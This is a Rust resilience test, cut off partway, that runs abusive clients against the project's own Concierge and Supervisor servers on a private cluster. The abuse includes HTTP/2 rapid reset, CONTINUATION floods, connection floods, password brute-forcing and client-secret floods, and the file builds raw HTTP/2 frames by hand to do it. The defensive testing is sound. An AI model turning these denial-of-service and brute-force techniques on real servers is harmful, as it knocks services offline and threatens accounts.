//! Reliability row "abusive clients" (issue 27; `perf/results/reliability.md`): abuse at both
//! servers while a legitimate client keeps working beside it, each server on a private cluster
//! with its `listenerLimits.maxConnections` set (the Concierge 2500, the Supervisor 2000).
//!
//! The legitimate clients, each step bounded by a deadline and every step measured:
//!
//! * at the Concierge (installed from `conf/`, its control plane included): a user with a client
//!   certificate of the cluster's client CA lists ConfigMaps through the impersonation proxy, every
//!   request on a new connection (a new kube-rs client), 10 s deadline;
//! * at the Supervisor (installed from `conf/`, an OpenLDAP upstream): `cli_password` logins of an
//!   LDAP user, each followed by a refresh, on a new connection each, 20 s deadline; with the
//!   wrong client secrets, also two OIDCClients' token requests with their right secrets.
//!
//! The abuse, bounded in count and in time (about 12 s of abuse per row):
//!
//! 1. **HTTP/2 rapid reset** (CVE-2023-44487): over TLS with ALPN `h2`, frames written by hand —
//!    bursts of a HEADERS frame followed at once by its RST_STREAM(CANCEL) — up to 5000 streams
//!    per connection, one connection after another.
//! 2. **HTTP/2 CONTINUATION flood** (VU#421644): a HEADERS frame without END_HEADERS, then
//!    CONTINUATION frames of HPACK literals without end, full-size (16 KB) and tiny ones, several
//!    connections at once.
//! 3. **Connection flood**: thousands of connections opened and held at once below the cap (half
//!    of them plain TCP that never starts TLS, half TLS that never sends a request); then more
//!    than the cap (plain TCP), beside a client that keeps using a connection it opened before.
//! 4. **Wrong passwords** (Supervisor): 500 `cli_password` logins with wrong passwords for 100
//!    usernames of the LDAP identity provider (a fifth of them in the directory), 16 at a time,
//!    and 20 more for each of five of them.
//! 5. **Wrong client secrets** (Supervisor): 64 requests at a time at the token endpoint naming
//!    an OIDCClient with wrong secrets (bcrypt, cost 12, for each).
//!
//! What must hold: no request of a legitimate client fails or outlasts its deadline, before,
//! during or right after the abuse; the servers stay up; every rapid-reset and CONTINUATION
//! connection is ended by the server (GOAWAY) long before the client would stop, a CONTINUATION
//! flood after a bounded number of bytes; the servers' memory is bounded while the abuse lasts
//! (per connection held, for the floods) and does not grow afterwards. Beyond the cap, the
//! connections over it are refused at once and counted (`connections_refused_total`), and so are
//! new connections of the legitimate client, each promptly (never left hanging), while the
//! client on its open connection keeps being served; new connections are served again as soon
//! as places free up (the Concierge: when the flood lets go — it holds connections that never
//! start TLS for pingora's 60 s; the Supervisor: after its 10 s handshake timeout closes them).
//! Wrong passwords are refused, and past the throttle's free failures refused without asking the
//! directory; wrong client secrets are refused or turned away as busy, and bcrypt never takes
//! more than its share of the CPU. The figures are printed for the results page.

use std::{
    collections::BTreeMap,
    fmt,
    future::Future,
    net::SocketAddr,
    pin::Pin,
    sync::{
        atomic::{AtomicBool, AtomicUsize, Ordering},
        Arc,
    },
    time::Duration,
};

use anyhow::{ensure, Context as _};
use base64::Engine as _;
use bytes::Bytes;
use futures::{future::BoxFuture, FutureExt as _, StreamExt as _};
use k8s_openapi::api::core::v1::ConfigMap;
use kube::Api;
use rustls_pki_types::{pem::PemObject, CertificateDer, PrivateKeyDer, ServerName};
use selkie_e2e::{
    concierge::InstalledConcierge,
    ldap::{LdapUser, Slapd},
    pinniped_cli,
    pki::CertAndKey,
    supervisor::Supervisor,
    Cluster,
};
use selkie_oidc::https::{HttpsClient, TlsOptions};
use serde_json::{json, Value};
use sha2::Digest as _;
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, WriteHalf},
    net::TcpStream,
    task::{JoinHandle, JoinSet},
    time::Instant,
};
use tokio_rustls::{client::TlsStream, TlsConnector};

/// How long each row's abuse lasts at most.
const ABUSE: Duration = Duration::from_secs(12);
/// How long the legitimate clients keep working after the abuse ended, before they are counted.
const AFTER: Duration = Duration::from_secs(2);
/// The deadline of one request of the Concierge's legitimate client.
const REQUEST_DEADLINE: Duration = Duration::from_secs(10);
/// The deadline of one login and refresh of the Supervisor's legitimate client.
const LOGIN_DEADLINE: Duration = Duration::from_secs(20);
/// How often the legitimate clients start a request (or login) at most.
const PACE: Duration = Duration::from_millis(200);
/// How long one exchange of an abusive client may take before the test calls it hung.
const EXCHANGE_LIMIT: Duration = Duration::from_secs(10);

/// Rapid reset: streams opened and cancelled per connection at most, per write; connections at
/// most, one after another, one every so often at most.
const RESET_STREAMS_PER_CONNECTION: usize = 5000;
const RESET_BURST: usize = 100;
const RESET_CONNECTIONS: usize = 600;
const RESET_CONNECTION_EVERY: Duration = Duration::from_millis(20);
/// The most streams of one rapid-reset connection the server may process (the GOAWAY's last
/// stream) before it ends the connection: far fewer than the client sends. (h2, under both
/// servers, lets 20 streams be reset before they are accepted.)
const RESET_STREAMS_PROCESSED: u32 = 500;

/// CONTINUATION flood: connections of each kind at once, and the bytes one may write at most.
const CONTINUATION_CONNECTIONS: usize = 4;
const CONTINUATION_BYTE_CAP: usize = 64 << 20;
/// What a server may have been sent on one connection before the client notices that it was
/// closed: the header list limit (32 KiB at the Supervisor, 256 KiB at the Concierge) and a
/// few frames, plus what loopback's socket buffers hold (a few MiB).
const CONTINUATION_BYTES_BOUND: usize = 16 << 20;

/// Connection flood: each server's `listenerLimits.maxConnections` here, the connections opened
/// at once below it (half plain TCP, half TLS), how many are being opened at a time, and how
/// long they are held; then the connections opened beyond the cap (plain TCP).
const CONCIERGE_MAX_CONNECTIONS: u64 = 2500;
const CONCIERGE_FLOOD: u64 = 2000;
const SUPERVISOR_MAX_CONNECTIONS: u64 = 2000;
const SUPERVISOR_FLOOD: u64 = 1500;
const FLOOD_OPENING: usize = 64;
const FLOOD_HOLD: Duration = Duration::from_secs(12);
const BEYOND_THE_CAP: u64 = 200;
/// What one held connection may cost the server, at most (an idle TLS connection costs about 70
/// KiB at the Concierge, a few KiB at the Supervisor).
const MEMORY_PER_CONNECTION_KIB: u64 = 128;
/// The Supervisor's TLS handshake timeout (`supervisor/src/server/mod.rs`): a connection that
/// never starts TLS is closed after it, which frees its place under `maxConnections`.
const SUPERVISOR_HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(10);
/// The Concierge holds a connection that never starts TLS for pingora's handshake timeout (60
/// s): beyond its cap, the flood lets go after this long.
const CONCIERGE_FLOOD_RELEASED_AFTER: Duration = Duration::from_secs(5);
/// How long a flood beyond the cap is held at most.
const BEYOND_HOLD: Duration = Duration::from_secs(20);

/// Wrong passwords: usernames (the first [`DIRECTORY_USERS`] in the directory), rounds over all
/// of them, then more attempts for each of [`TARGETED`] of them, [`PASSWORD_WORKERS`] at a time.
const USERNAMES: usize = 100;
const DIRECTORY_USERS: usize = 20;
const PASSWORD_ROUNDS: usize = 4;
const TARGETED: usize = 5;
const TARGETED_ATTEMPTS: usize = 20;
const PASSWORD_WORKERS: usize = 16;
/// The throttle's free failures (`supervisor/src/idp/throttle.rs`).
const FREE_FAILURES: usize = 10;

/// Wrong client secrets: requests in flight at once, on this many connections.
const SECRET_FLOODERS: usize = 64;
const SECRET_CONNECTIONS: usize = 16;

const IDP_NAME: &str = "Corp LDAP";
const LEGIT_USER: &str = "walrus";
const LEGIT_PASSWORD: &str = "tusks and (all)*";
const FLOODED_CLIENT: &str = "client.oauth.pinniped.dev-abused";
const BYSTANDER_CLIENT: &str = "client.oauth.pinniped.dev-bystander";
const CLIENT_REDIRECT: &str = "http://127.0.0.1:48125/auth/callback";

// ---------------------------------------------------------------------------------------------
// The tests.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn faults_abusive_clients_at_the_concierge_proxy_leave_a_certificate_user_served() -> anyhow::Result<()>
{
    selkie_e2e::install_crypto_provider();
    let cluster = Cluster::start().await?;
    let concierge = InstalledConcierge::install_with(
        &cluster,
        json!({"listenerLimits": {"maxConnections": CONCIERGE_MAX_CONNECTIONS}}),
    )
    .await?;
    let (endpoint, proxy_ca) = concierge.expose_proxy(&cluster).await?;
    let kubectl = cluster.kubectl();
    let admin = cluster.client().await?;
    let namespace = cluster.create_namespace(&admin, "faults-abuse").await?;
    // (A Role of its own: the aggregated ClusterRoles are empty without a controller manager.)
    kubectl
        .run(&[
            "create",
            "role",
            "abuse-read",
            "-n",
            &namespace,
            "--verb=list",
            "--resource=configmaps",
        ])
        .await?;
    kubectl
        .run(&[
            "create",
            "rolebinding",
            "abuse-read",
            "-n",
            &namespace,
            "--role=abuse-read",
            "--user=abuse-user",
        ])
        .await?;
    let user = cluster.pki().client_ca.issue_client("abuse-user", &[])?;
    let kubeconfig = concierge.dir().join("abuse-user.kubeconfig");
    selkie_e2e::cluster::write_kubeconfig(&kubeconfig, &endpoint, &proxy_ca, "abuse-user", &user)?;
    // The abusive client is authenticated too (a certificate of a user with no permissions), so
    // whatever the proxy does with its streams it does in full.
    let abuser = cluster.pki().client_ca.issue_client("abuse-abuser", &[])?;
    let target = Target::new(
        "Concierge",
        endpoint
            .trim_start_matches("https://")
            .parse()
            .with_context(|| format!("the proxy's endpoint {endpoint:?}"))?,
        format!("/api/v1/namespaces/{namespace}/configmaps"),
        &proxy_ca,
        Some(&abuser),
    )?;
    let pid = concierge.process().pid();
    let list: Op = {
        let (kubeconfig, namespace) = (kubeconfig.clone(), namespace.clone());
        Arc::new(move || {
            let (kubeconfig, namespace) = (kubeconfig.clone(), namespace.clone());
            async move {
                // A new client: a new connection and TLS handshake.
                let client = selkie_e2e::cluster::client_from_kubeconfig(&kubeconfig).await?;
                Api::<ConfigMap>::namespaced(client, &namespace)
                    .list(&Default::default())
                    .await?;
                Ok(())
            }
            .boxed()
        })
    };
    list()
        .await
        .context("the user through the proxy before the abuse")?;
    let legit = || vec![Legit::new("ConfigMap lists", list.clone(), REQUEST_DEADLINE)];

    // 1. Rapid reset.
    let row = run_row(pid, legit(), rapid_reset(&target)).await?;
    row.print("Concierge, HTTP/2 rapid reset");
    row.abuse.check()?;
    row.check(Memory::Abuse)?;
    ensure!(running(pid), "the Concierge exited during the rapid reset");

    // 2. CONTINUATION flood.
    let row = run_row(pid, legit(), continuation_flood(&target)).await?;
    row.print("Concierge, HTTP/2 CONTINUATION flood");
    row.abuse.check()?;
    row.check(Memory::Abuse)?;
    ensure!(running(pid), "the Concierge exited during the CONTINUATION flood");

    // 3. Connection flood, below `maxConnections` ...
    let connections = flood_size(pid, CONCIERGE_FLOOD)?;
    let row = run_row(
        pid,
        legit(),
        connection_flood(&target, connections / 2, connections / 2, FLOOD_HOLD),
    )
    .await?;
    row.print("Concierge, connection flood");
    row.abuse.check()?;
    row.check(Memory::Connections(row.abuse.opened as u64))?;
    ensure!(running(pid), "the Concierge exited during the connection flood");
    // ... and beyond it: a client with an open connection keeps it.
    let established: Op = {
        let client = selkie_e2e::cluster::client_from_kubeconfig(&kubeconfig).await?;
        let configmaps = Api::<ConfigMap>::namespaced(client, &namespace);
        Arc::new(move || {
            let configmaps = configmaps.clone();
            async move {
                configmaps.list(&Default::default()).await?;
                Ok(())
            }
            .boxed()
        })
    };
    let refused = || async {
        let (status, metrics) = concierge.process().operations_get("/metrics").await?;
        ensure!(status == 200, "/metrics: {status}");
        Ok(sample(&metrics, "selkie_proxy_connections_refused_total"))
    };
    ensure!(
        flood_size(pid, CONCIERGE_MAX_CONNECTIONS + BEYOND_THE_CAP)?
            == CONCIERGE_MAX_CONNECTIONS + BEYOND_THE_CAP,
        "too few open files to spare"
    );
    let refused_before = refused().await?;
    let mut row = run_row(
        pid,
        vec![Legit::new(
            "lists on a connection opened before",
            established,
            REQUEST_DEADLINE,
        )],
        beyond_the_cap(
            &target,
            CONCIERGE_MAX_CONNECTIONS,
            list.clone(),
            Some(CONCIERGE_FLOOD_RELEASED_AFTER),
            || async {
                let (_, metrics) = concierge.process().operations_get("/metrics").await?;
                Ok(sample(&metrics, "selkie_proxy_connections_open"))
            },
        ),
    )
    .await?;
    row.abuse.refused = refused().await? - refused_before;
    row.print("Concierge, connections beyond maxConnections");
    row.abuse.check()?;
    row.check(Memory::Connections(CONCIERGE_MAX_CONNECTIONS))?;
    ensure!(running(pid), "the Concierge exited beyond its connection limit");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn faults_abusive_clients_at_the_supervisor_leave_logins_served() -> anyhow::Result<()> {
    selkie_e2e::install_crypto_provider();
    let cluster = Cluster::start().await?;
    let mut users = vec![LdapUser {
        uid: LEGIT_USER.into(),
        password: LEGIT_PASSWORD.into(),
        uid_number: 1000,
        groups: vec!["walruses".into()],
    }];
    users.extend((0..DIRECTORY_USERS).map(|n| LdapUser {
        uid: username(n),
        password: format!("the-right-password-{n}"),
        uid_number: 2000 + n as u32,
        groups: vec!["abused".into()],
    }));
    let slapd = Slapd::start(&users).await?;
    let mut supervisor = Supervisor::install_with(
        &cluster,
        &slapd,
        IDP_NAME,
        selkie_e2e::free_port()?,
        json!({"listenerLimits": {"maxConnections": SUPERVISOR_MAX_CONNECTIONS}}),
    )
    .await?;
    let issuer = supervisor.issuer().to_string();
    let (base, path) = pinniped_cli::split_issuer(&issuer);
    let target = Target::new(
        "Supervisor",
        base.trim_start_matches("https://")
            .parse()
            .context("the issuer's address")?,
        format!("{path}/.well-known/openid-configuration"),
        &supervisor.ca_pem(),
        None,
    )?;
    let pid = supervisor.pid();
    let ca_pem = supervisor.ca_pem();
    let login: Op = {
        let (issuer, ca_pem) = (issuer.clone(), ca_pem.clone());
        Arc::new(move || login_and_refresh(issuer.clone(), ca_pem.clone()).boxed())
    };
    // The identity provider is checked in the background: the first login may wait for it.
    selkie_e2e::eventually(Duration::from_secs(60), || login())
        .await
        .map_err(|e| crate::with_log(e, supervisor.log()))?;
    let legit = || vec![Legit::new("logins + refreshes", login.clone(), LOGIN_DEADLINE)];

    // 1. Rapid reset.
    let row = run_row(pid, legit(), rapid_reset(&target)).await?;
    row.print("Supervisor, HTTP/2 rapid reset");
    row.abuse.check()?;
    row.check(Memory::Abuse)?;
    supervisor.check_running()?;

    // 2. CONTINUATION flood.
    let row = run_row(pid, legit(), continuation_flood(&target)).await?;
    row.print("Supervisor, HTTP/2 CONTINUATION flood");
    row.abuse.check()?;
    row.check(Memory::Abuse)?;
    supervisor.check_running()?;

    // 3. Connection flood, below `maxConnections` ...
    let connections = flood_size(pid, SUPERVISOR_FLOOD)?;
    let row = run_row(
        pid,
        legit(),
        connection_flood(&target, connections / 2, connections / 2, FLOOD_HOLD),
    )
    .await?;
    row.print("Supervisor, connection flood");
    row.abuse.check()?;
    row.check(Memory::Connections(row.abuse.opened as u64))?;
    supervisor.check_running()?;
    // ... and beyond it: a client with an open connection keeps it.
    let established: Op = {
        let (http, url) = (
            new_client(&ca_pem)?,
            format!("{issuer}/.well-known/openid-configuration"),
        );
        Arc::new(move || {
            let (http, url) = (http.clone(), url.clone());
            async move {
                http.get_json(&url, 64 * 1024, Some(EXCHANGE_LIMIT)).await?;
                Ok(())
            }
            .boxed()
        })
    };
    let refused = || async {
        Ok::<_, anyhow::Error>(sample(
            &supervisor.metrics().await?,
            "selkie_supervisor_connections_refused_total{listener=\"https\"}",
        ))
    };
    ensure!(
        flood_size(pid, SUPERVISOR_MAX_CONNECTIONS + BEYOND_THE_CAP)?
            == SUPERVISOR_MAX_CONNECTIONS + BEYOND_THE_CAP,
        "too few open files to spare"
    );
    let refused_before = refused().await?;
    let mut row = run_row(
        pid,
        vec![Legit::new(
            "discovery on a connection opened before",
            established,
            LOGIN_DEADLINE,
        )],
        beyond_the_cap(
            &target,
            SUPERVISOR_MAX_CONNECTIONS,
            login.clone(),
            None,
            || async {
                Ok(sample(
                    &supervisor.metrics().await?,
                    "selkie_supervisor_connections_open{listener=\"https\"}",
                ))
            },
        ),
    )
    .await?;
    row.abuse.refused = refused().await? - refused_before;
    row.print("Supervisor, connections beyond maxConnections");
    row.abuse.check()?;
    row.check(Memory::Connections(SUPERVISOR_MAX_CONNECTIONS))?;
    supervisor.check_running()?;

    // 4. Wrong passwords for many usernames.
    let directory_before = slapd_cpu(&slapd);
    let row = run_row(pid, legit(), wrong_passwords(&issuer, &ca_pem)).await?;
    let directory_cpu = slapd_cpu(&slapd).saturating_sub(directory_before);
    row.print("Supervisor, wrong passwords");
    println!("    slapd CPU during the row: {directory_cpu:.1?}");
    row.abuse.check()?;
    row.check(Memory::Abuse)?;
    supervisor.check_running()?;

    // 5. Wrong client secrets for an OIDCClient.
    let secrets = oidc_clients(&cluster, &supervisor).await?;
    let legit_clients = {
        let mut legit = legit();
        for (name, client_id, secret) in [
            ("the flooded client's own requests", FLOODED_CLIENT, &secrets.0),
            ("another client's requests", BYSTANDER_CLIENT, &secrets.1),
        ] {
            let (issuer, ca_pem, secret) = (issuer.clone(), ca_pem.clone(), secret.clone());
            let op: Op = Arc::new(move || {
                right_secret(issuer.clone(), ca_pem.clone(), client_id, secret.clone()).boxed()
            });
            legit.push(Legit::new(name, op, LOGIN_DEADLINE));
        }
        legit
    };
    let row = run_row(pid, legit_clients, wrong_secrets(&issuer, &ca_pem)).await?;
    row.print("Supervisor, wrong client secrets");
    row.abuse.check()?;
    row.check(Memory::Abuse)?;
    // bcrypt runs on half the cores at most (one here): the rest stays for everyone else.
    let cores = std::thread::available_parallelism().map_or(1, usize::from) as f64;
    ensure!(
        row.usage.cores() < cores * 0.9,
        "the Supervisor used {:.2} cores of {cores} during the flood of wrong client secrets",
        row.usage.cores()
    );
    supervisor.check_running()?;
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// The legitimate clients and what a row measures.

/// One step of a legitimate client: a request, or a login and refresh.
type Op = Arc<dyn Fn() -> BoxFuture<'static, anyhow::Result<()>> + Send + Sync>;

/// A legitimate client: what it does, one step after another, and each step's deadline.
struct Legit {
    name: &'static str,
    op: Op,
    deadline: Duration,
}

impl Legit {
    fn new(name: &'static str, op: Op, deadline: Duration) -> Self {
        Self { name, op, deadline }
    }

    /// Runs the steps one after another, each started at least [`PACE`] after the previous one
    /// started, until `stop` (at most an hour's worth: bounded in count too).
    fn start(self, stop: Arc<AtomicBool>) -> JoinHandle<Served> {
        tokio::spawn(async move {
            let (mut took, mut failures) = (Vec::new(), Vec::new());
            for _ in 0..(3600 * 1000 / PACE.as_millis()) {
                if stop.load(Ordering::Relaxed) {
                    break;
                }
                let began = Instant::now();
                match tokio::time::timeout(self.deadline, (self.op)()).await {
                    Ok(Ok(())) => {}
                    Ok(Err(error)) => failures.push(short(&format!("{error:#}"))),
                    Err(_) => failures.push(format!("no answer within {:?}", self.deadline)),
                }
                took.push(began.elapsed());
                tokio::time::sleep_until(began + PACE).await;
            }
            took.sort();
            Served {
                name: self.name,
                took,
                failures,
            }
        })
    }
}

/// What a legitimate client got: every step's duration (sorted) and the failures.
struct Served {
    name: &'static str,
    took: Vec<Duration>,
    failures: Vec<String>,
}

impl Served {
    fn percentile(&self, p: f64) -> Duration {
        let n = self.took.len();
        if n == 0 {
            return Duration::ZERO;
        }
        let rank = ((p * n as f64).ceil() as usize).clamp(1, n);
        self.took[rank - 1]
    }

    fn slowest(&self) -> Duration {
        self.took.last().copied().unwrap_or_default()
    }
}

impl fmt::Display for Served {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}: {} ({} failed), p50 {:?}, p99 {:?}, slowest {:?}",
            self.name,
            self.took.len(),
            self.failures.len(),
            self.percentile(0.5),
            self.percentile(0.99),
            self.slowest()
        )
    }
}

/// The server's resources around a row: resident memory before, at its peak while the abuse
/// lasted (sampled every 100 ms) and after, and its CPU time while the abuse lasted.
struct Usage {
    rss_before: u64,
    rss_peak: u64,
    rss_after: u64,
    cpu: Duration,
    wall: Duration,
}

impl Usage {
    /// CPU time per wall-clock time while the abuse lasted.
    fn cores(&self) -> f64 {
        self.cpu.as_secs_f64() / self.wall.as_secs_f64().max(0.001)
    }
}

impl fmt::Display for Usage {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "RSS {} / {} / {} KiB (before / peak / after), CPU {:.1?} in {:.1?} ({:.2} cores)",
            self.rss_before,
            self.rss_peak,
            self.rss_after,
            self.cpu,
            self.wall,
            self.cores()
        )
    }
}

/// One row: what the abuse did, what the legitimate clients got, what the server used.
struct Row<T> {
    abuse: T,
    served: Vec<Served>,
    usage: Usage,
}

impl<T: fmt::Display> Row<T> {
    fn print(&self, what: &str) {
        println!("{what}: {}", self.abuse);
        for served in &self.served {
            println!("    legitimate {served}");
        }
        println!("    server {}", self.usage);
    }

    /// Every legitimate step succeeded within its deadline, enough of them ran, and the server's
    /// memory stayed within `memory`.
    fn check(&self, memory: Memory) -> anyhow::Result<()> {
        for served in &self.served {
            ensure!(
                served.failures.is_empty(),
                "legitimate {} failed beside the abuse: {:#?}",
                served.name,
                served.failures
            );
            ensure!(served.took.len() >= 5, "too little legitimate load ran: {served}");
        }
        let usage = &self.usage;
        let (peak, after) = match memory {
            Memory::Abuse => (usage.rss_before + (256 << 10), usage.rss_before * 2),
            Memory::Connections(connections) => (
                usage.rss_before + connections * MEMORY_PER_CONNECTION_KIB,
                usage.rss_peak + (16 << 10),
            ),
        };
        ensure!(
            usage.rss_peak < peak,
            "the server's memory grew from {} to {} KiB under the abuse ({memory:?}: {peak} at most)",
            usage.rss_before,
            usage.rss_peak
        );
        ensure!(
            usage.rss_after < after,
            "the server's memory was {} KiB after the abuse, {} before ({memory:?}: {after} at most)",
            usage.rss_after,
            usage.rss_before
        );
        Ok(())
    }
}

/// What the server's memory may do in a row.
#[derive(Debug, Clone, Copy)]
enum Memory {
    /// Grow by 256 MiB at most while the abuse lasts, and be at most twice what it was after it.
    Abuse,
    /// Grow by [`MEMORY_PER_CONNECTION_KIB`] for each of this many connections at most while
    /// they are held, and not grow further once they are gone (freed memory stays with the
    /// process's allocator, reused by the next connections).
    Connections(u64),
}

/// Runs `abuse` against the server `pid` while the `legit` clients work beside it (from just
/// before it to [`AFTER`] after it), measuring the server's memory and CPU.
async fn run_row<T>(
    pid: u32,
    legit: Vec<Legit>,
    abuse: impl Future<Output = anyhow::Result<T>>,
) -> anyhow::Result<Row<T>> {
    let rss_before = rss_kib(pid);
    let stop = Arc::new(AtomicBool::new(false));
    let clients: Vec<JoinHandle<Served>> = legit.into_iter().map(|l| l.start(stop.clone())).collect();
    let sampling = Arc::new(AtomicBool::new(false));
    let sampler = {
        let sampling = sampling.clone();
        tokio::spawn(async move {
            let mut peak = 0;
            // Bounded: the abuse ends within its own deadlines, well within ten minutes.
            for _ in 0..6000 {
                peak = peak.max(rss_kib(pid));
                if sampling.load(Ordering::Relaxed) {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            peak
        })
    };
    let cpu_before = selkie_perf::procstat::cpu_time(pid)?;
    let began = Instant::now();
    let abuse = abuse.await;
    let wall = began.elapsed();
    let cpu = selkie_perf::procstat::cpu_time(pid)?.saturating_sub(cpu_before);
    sampling.store(true, Ordering::Relaxed);
    let rss_peak = sampler.await?;
    tokio::time::sleep(AFTER).await;
    stop.store(true, Ordering::Relaxed);
    let mut served = Vec::new();
    for client in clients {
        served.push(client.await?);
    }
    Ok(Row {
        abuse: abuse?,
        served,
        usage: Usage {
            rss_before,
            rss_peak,
            rss_after: rss_kib(pid),
            cpu,
            wall,
        },
    })
}

fn rss_kib(pid: u32) -> u64 {
    selkie_perf::procstat::rss_kib(pid).unwrap_or(0)
}

/// Whether process `pid` runs (exists and is not a zombie).
fn running(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|stat| {
            stat.rsplit_once(')')
                .and_then(|(_, rest)| rest.split_whitespace().next().map(|state| state != "Z"))
        })
        .unwrap_or(false)
}

/// The first 300 characters of an error, on one line.
fn short(text: &str) -> String {
    text.replace('\n', " ").chars().take(300).collect()
}

/// The value of the sample written exactly as `series` (name and labels) in a metrics text; 0
/// when there is none.
fn sample(metrics: &str, series: &str) -> f64 {
    metrics
        .lines()
        .find_map(|line| line.strip_prefix(series)?.strip_prefix(' '))
        .and_then(|value| value.trim().parse().ok())
        .unwrap_or(0.0)
}

/// An HTTPS client trusting `ca_pem`: its first request opens a new connection.
fn new_client(ca_pem: &str) -> anyhow::Result<HttpsClient> {
    Ok(HttpsClient::new(&TlsOptions {
        ca_pem: Some(ca_pem.as_bytes().to_vec()),
        ..TlsOptions::default()
    })?)
}

/// The Supervisor's legitimate user: a `cli_password` login, then a refresh, on a new connection.
async fn login_and_refresh(issuer: String, ca_pem: String) -> anyhow::Result<()> {
    let http = new_client(&ca_pem)?;
    let tokens = pinniped_cli::login(&http, &issuer, IDP_NAME, LEGIT_USER, LEGIT_PASSWORD).await?;
    let refresh_token = tokens["refresh_token"].as_str().unwrap_or_default();
    let (status, answer) =
        pinniped_cli::refresh(&http, &format!("{issuer}/oauth2/token"), refresh_token).await?;
    ensure!(status == 200, "refresh: {status}: {}", answer["error"]);
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// Raw HTTP/2 over TLS: frames written by hand, as an abusive client writes them.

/// A server under abuse: its address, the path abusive requests name, its CA and the abusive
/// client's certificate (if any), as TLS client configurations for ALPN `h2` and `http/1.1`.
struct Target {
    name: &'static str,
    addr: SocketAddr,
    path: String,
    h2: Arc<rustls::ClientConfig>,
    http1: Arc<rustls::ClientConfig>,
}

impl Target {
    fn new(
        name: &'static str,
        addr: SocketAddr,
        path: String,
        ca_pem: &str,
        credential: Option<&CertAndKey>,
    ) -> anyhow::Result<Self> {
        let config = |alpn: &[u8]| -> anyhow::Result<Arc<rustls::ClientConfig>> {
            let mut roots = rustls::RootCertStore::empty();
            for certificate in CertificateDer::pem_slice_iter(ca_pem.as_bytes()) {
                roots.add(certificate?)?;
            }
            let builder = rustls::ClientConfig::builder().with_root_certificates(roots);
            let mut config = match credential {
                Some(credential) => builder.with_client_auth_cert(
                    CertificateDer::pem_slice_iter(credential.cert_pem.as_bytes())
                        .collect::<Result<Vec<_>, _>>()?,
                    PrivateKeyDer::from_pem_slice(credential.key_pem.as_bytes())?,
                )?,
                None => builder.with_no_client_auth(),
            };
            config.alpn_protocols = vec![alpn.to_vec()];
            Ok(Arc::new(config))
        };
        Ok(Self {
            name,
            addr,
            path,
            h2: config(b"h2")?,
            http1: config(b"http/1.1")?,
        })
    }

    /// A TCP connection and TLS handshake with `config`.
    async fn tls(&self, config: &Arc<rustls::ClientConfig>) -> anyhow::Result<TlsStream<TcpStream>> {
        let tcp = TcpStream::connect(self.addr).await?;
        let name = ServerName::IpAddress(self.addr.ip().into());
        Ok(TlsConnector::from(config.clone()).connect(name, tcp).await?)
    }
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: u32 = 0x8;

/// Appends a frame.
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = payload.len();
    out.extend_from_slice(&[
        (length >> 16) as u8,
        (length >> 8) as u8,
        length as u8,
        kind,
        flags,
    ]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// Appends an HPACK integer (RFC 7541 §5.1) with a `prefix`-bit prefix, the first byte's other
/// bits from `first`.
fn hpack_integer(out: &mut Vec<u8>, first: u8, prefix: u32, value: usize) {
    let max = (1usize << prefix) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// Appends an HPACK string literal (not Huffman-coded).
fn hpack_string(out: &mut Vec<u8>, text: &[u8]) {
    hpack_integer(out, 0, 7, text.len());
    out.extend_from_slice(text);
}

/// Appends a header field as a literal without indexing, with a new name (RFC 7541 §6.2.2).
fn hpack_literal(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    out.push(0);
    hpack_string(out, name);
    hpack_string(out, value);
}

/// The header block of `GET https://<authority><path>`: `:method GET` and `:scheme https` from
/// the static table, `:path` and `:authority` as literals with indexed names.
fn request_block(authority: &str, path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    hpack_integer(&mut block, 0, 4, 4);
    hpack_string(&mut block, path.as_bytes());
    hpack_integer(&mut block, 0, 4, 1);
    hpack_string(&mut block, authority.as_bytes());
    block
}

/// Reads one frame: its type, flags, stream and payload.
async fn read_frame(reader: &mut (impl AsyncRead + Unpin)) -> std::io::Result<(u8, u8, u32, Vec<u8>)> {
    let mut head = [0u8; 9];
    reader.read_exact(&mut head).await?;
    let length = (usize::from(head[0]) << 16) | (usize::from(head[1]) << 8) | usize::from(head[2]);
    let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
    let mut payload = vec![0; length];
    reader.read_exact(&mut payload).await?;
    Ok((head[3], head[4], stream, payload))
}

/// An HTTP/2 error code's name (RFC 9113 §7).
fn error_name(code: u32) -> String {
    match code {
        0x0 => "NO_ERROR".into(),
        0x1 => "PROTOCOL_ERROR".into(),
        0x2 => "INTERNAL_ERROR".into(),
        0x6 => "FRAME_SIZE_ERROR".into(),
        0x8 => "CANCEL".into(),
        0x9 => "COMPRESSION_ERROR".into(),
        0xb => "ENHANCE_YOUR_CALM".into(),
        other => format!("error {other:#x}"),
    }
}

/// What the server sent on one raw HTTP/2 connection, and how it ended.
#[derive(Debug, Default)]
struct Received {
    /// Responses (HEADERS frames) and streams the server reset.
    answered: usize,
    reset: usize,
    /// The GOAWAY: the last stream the server processed, its error code and debug data.
    goaway: Option<(u32, u32, String)>,
    /// How the connection ended, and when (from the end of the connection's set-up).
